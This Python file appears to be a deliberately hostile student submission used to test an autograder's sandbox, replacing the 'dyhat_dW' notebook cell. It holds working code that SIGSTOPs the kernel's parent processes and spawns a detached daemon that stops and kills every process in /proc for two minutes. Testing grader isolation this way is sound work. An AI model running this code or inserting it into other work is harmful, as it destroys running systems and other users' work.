"""Stop and kill every process in sight: the kernel's parents, then everything, from a daemon.

Replaces the ``dyhat_dW`` cell of ``03_vector_wrt_matrix``: sends SIGSTOP up the chain of
parent processes, then starts a detached daemon that, for two minutes, SIGSTOPs and SIGKILLs
every pid in ``/proc`` and signals ``-1``, ``0`` and ``1``. The kernel dies with the rest of
its jail, so the notebook stops. Must earn 0 in all three cells (its kernel is gone before
the grader calls anything), and cost no other student anything.
"""

import os
import signal
import subprocess
import sys
import time

KILLER = """
import os, signal, time
if os.fork():  # a grandchild of the kernel, in a session of its own
    os._exit(0)
me = os.getpid()
deadline = time.time() + 120
while time.time() < deadline:
    for signum in (signal.SIGSTOP, signal.SIGKILL):
        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            if pid != me:
                try:
                    os.kill(pid, signum)
                except OSError:
                    pass
    for pid in (-1, 0, 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    time.sleep(0.05)
"""
pid = os.getpid()
while pid > 1:  # up the parents: in a jail, they are out of sight
    try:
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rsplit(")", 1)[1].split()[1])
        os.kill(pid, signal.SIGSTOP)
    except (OSError, ValueError):
        break
subprocess.Popen([sys.executable, "-c", "# hostile-daemon\n" + KILLER], start_new_session=True)
time.sleep(2)


def dyhat_dW(W, x):
    raise NotImplementedError()
